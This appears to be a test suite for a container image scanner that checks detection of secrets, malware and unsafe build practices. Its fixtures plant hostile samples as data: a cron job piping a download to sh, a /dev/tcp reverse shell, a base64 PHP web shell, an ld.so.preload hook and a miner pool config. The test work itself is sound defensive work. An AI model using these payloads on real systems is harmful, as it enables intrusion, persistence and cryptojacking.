import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { after, before, test } from 'node:test';
import { seeded, tarOf } from './archives.ts';
import { answerOf, pushImageOf } from './image-pusher.ts';
import { startServer, type TestServer } from './server.ts';

let server: TestServer;
before(async () => {
  server = await startServer();
});
after(() => server[Symbol.asyncDispose]());

interface Found {
  readonly kind: string;
  readonly id: string;
  readonly severity: string;
  readonly place: string;
  readonly path?: string;
  readonly line?: number;
  readonly removed?: true;
  readonly detail?: string;
  readonly layer?: { readonly digest: string; readonly instruction?: string };
}

const random = seeded(9);
const drawn = (count: number) =>
  Array.from({ length: count }, () => 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMN23456789'[Math.floor(random() * 45)]).join(
    '',
  );
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const key = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'sec1', format: 'pem' });

async function observe(
  repository: string,
  layers: readonly Buffer[],
  configuration: Record<string, unknown>,
): Promise<Found[]> {
  const image = await pushImageOf(server, repository, layers, configuration);
  const { items } = await answerOf<{ items: Found[] }>(server, `${image.path}/observations`);
  return items;
}

test('secrets in live and deleted files, the environment, labels and the history, each with its place', async () => {
  const token = `glpat-${drawn(20)}`;
  const lower = tarOf([
    { path: 'root/.ssh/id_ecdsa', content: key, mode: 0o600 },
    { path: 'app/.env', content: `A=1\nGITLAB=${token}\n` },
    { path: 'usr/lib/python3/dist-packages/x/key.pem', content: key },
    { path: 'opt/vendor/key.pem', content: key },
    { path: 'var/lib/dpkg/info/vendor.list', content: '/opt/vendor/key.pem\n/usr/share/vendor/demo.key\n' },
    { path: 'usr/share/vendor/demo.key', content: key },
  ]);
  const upper = tarOf([{ path: 'root/.ssh/.wh.id_ecdsa' }, { path: 'app/ok', content: 'x' }]);
  const found = await observe('seen/secrets', [lower, upper], {
    config: {
      Env: ['PATH=/usr/bin', `DATABASE_URL=mysql://app:${drawn(12)}@db/app`],
      Labels: { 'build.token': `glpat-${drawn(20)}` },
    },
    history: [
      { created_by: '/bin/sh -c #(nop) ADD file:x in / ' },
      { created_by: `RUN |1 T=x /bin/sh -c curl -H "PRIVATE-TOKEN: glpat-${drawn(20)}" https://g # buildkit` },
    ],
  });
  const secrets = found.filter((each) => each.kind === 'secret');
  assert.deepEqual(
    secrets.map(({ id, place, path, line, removed }) => [id, place, path, line, removed]).sort(),
    [
      ['gitlab-token', 'file', 'app/.env', 2, undefined],
      ['gitlab-token', 'history', undefined, 2, undefined],
      ['gitlab-token', 'label', 'build.token', undefined, undefined],
      ['private-key', 'file', 'opt/vendor/key.pem', 1, undefined],
      ['private-key', 'file', 'root/.ssh/id_ecdsa', 1, true],
      ['url-password', 'environment', 'DATABASE_URL', undefined, undefined],
    ].sort(),
  );
  assert.ok(!JSON.stringify(found).includes(token), 'a secret is never shown');
  assert.match(secrets.find((each) => each.removed)?.layer?.instruction ?? '', /ADD file/);
});

test('EICAR in a live and a deleted file, planted persistence; what packages brought is left alone', async () => {
  const lower = tarOf([
    { path: 'tmp/eicar.com', content: EICAR },
    { path: 'srv/eicar.bin', content: Buffer.concat([Buffer.from([0, 1, 2, 3]), Buffer.from(EICAR)]) },
    { path: 'etc/ld.so.preload', content: '/tmp/x.so\n' },
    { path: 'root/.ssh/authorized_keys', content: 'ssh-ed25519 AAAA me\n' },
    { path: 'etc/cron.d/update', content: '* * * * * root curl -s http://203.0.113.9/x | sh\n' },
    {
      path: 'etc/cron.d/e2scrub_all',
      content: '30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all_cron\n',
    },
    { path: 'var/lib/dpkg/info/e2fsprogs.list', content: '/etc/cron.d/e2scrub_all\n' },
    { path: 'var/tmp/.x/.run', content: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n', mode: 0o755 },
    { path: 'app/up.php', content: '<?php eval(base64_decode($_POST["c"])); ?>' },
    { path: 'opt/miner.json', content: '{"pools":[{"url":"stratum+tcp://pool.example.org:3333"}],"donate-level":1}' },
  ]);
  const found = await observe('seen/malware', [lower, tarOf([{ path: 'tmp/.wh.eicar.com' }])], {});
  const malware = found
    .filter((each) => each.kind === 'malware')
    .map(({ id, path, removed }) => `${id} ${path}${removed ? ' removed' : ''}`);
  for (const wanted of [
    'eicar tmp/eicar.com removed',
    'known-file tmp/eicar.com removed',
    'eicar srv/eicar.bin',
    'preload-file etc/ld.so.preload',
    'authorized-keys root/.ssh/authorized_keys',
    'cron-job etc/cron.d/update',
    'piped-download etc/cron.d/update',
    'hidden-program var/tmp/.x/.run',
    'reverse-shell var/tmp/.x/.run',
    'web-shell app/up.php',
    'miner-pool opt/miner.json',
    'miner-settings opt/miner.json',
  ])
    assert.ok(malware.includes(wanted), `${wanted} of ${malware.join(', ')}`);
  assert.equal(malware.length, 12, malware.join(', '));
});

test('practices and minimality of a careless image; a careful one has few', async () => {
  const layers = [
    tarOf([
      { path: 'bin/sh', content: 'x', mode: 0o755 },
      { path: 'usr/bin/gcc', content: 'x', mode: 0o755 },
      { path: 'usr/bin/apt-get', content: 'x', mode: 0o755 },
      { path: 'usr/sbin/nginx', content: 'x', mode: 0o755 },
      { path: 'usr/sbin/sshd', content: 'x', mode: 0o755 },
      { path: 'usr/bin/passwd', content: 'x', mode: 0o4755 },
      { path: 'opt/tool', content: 'x', mode: 0o4755 },
      {
        path: 'etc/passwd',
        content: 'root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\na:x:7:7::/:/bin/sh\nb:x:7:7::/:/bin/sh\n',
      },
      { path: 'etc/shadow', content: 'root::19000:0:99999:7:::\n' },
      { path: 'app/data', content: Buffer.alloc(12 * 1024 * 1024, 'z') },
      { path: 'app/.git/', type: '5' },
      { path: 'etc/app.conf', content: 'x', mode: 0o666 },
      { path: 'var/cache/apt/pkgcache.bin', content: Buffer.alloc(100_000) },
    ]),
    tarOf([{ path: 'app/.wh.data' }]),
  ];
  const found = await observe('seen/careless', layers, {
    config: { ExposedPorts: { '22/tcp': {} }, Env: ['PATH=/usr/bin:.'], Entrypoint: ['/bin/sh', '-c', 'x'] },
    history: [
      { created_by: '/bin/sh -c apt-get update' },
      { created_by: 'ADD ./app /app # buildkit' },
      { created_by: 'RUN curl http://a/b | sh', empty_layer: true },
    ],
  });
  const ids = new Set(found.map((each) => each.id));
  for (const wanted of [
    'runs-as-root',
    'no-health-check',
    'update-alone',
    'add-instruction',
    'piped-installer',
    'ssh-exposed',
    'relative-path',
    'shell-entrypoint',
    'setuid-program',
    'world-writable',
    'unneeded-file',
    'package-cache',
    'second-root',
    'shared-number',
    'empty-password',
    'wasted-bytes',
    'wasted-file',
    'shells',
    'compilers',
    'package-managers',
    'services',
  ])
    assert.ok(ids.has(wanted), wanted);
  assert.equal(found.find((each) => each.id === 'setuid-program' && each.path === 'opt/tool')?.severity, 'medium');
  assert.match(found.find((each) => each.id === 'wasted-bytes')?.detail ?? '', /^12582912 of \d+ bytes in 1 files/);
  const careful = await observe('seen/careful', [tarOf([{ path: 'app', content: 'x', mode: 0o755 }])], {
    config: { User: '65532', Entrypoint: ['/app'], Healthcheck: { Test: ['CMD', '/app'] } },
  });
  assert.deepEqual(
    careful.map((each) => each.id),
    ['no-labels'],
  );
});

test('the report holds every kind, the vulnerabilities first', async () => {
  const image = await pushImageOf(server, 'seen/report', [tarOf([{ path: 'root/.ssh/id_ecdsa', content: key }])], {});
  const { findings } = await answerOf<{ findings: Found[] }>(server, `${image.path}/report`);
  assert.ok(findings.some((each) => each.kind === 'secret' && each.severity === 'critical'));
  const only = await answerOf<{ items: Found[] }>(server, `${image.path}/observations?kind=secret`);
  assert.deepEqual([...new Set(only.items.map((each) => each.kind))], ['secret']);
});
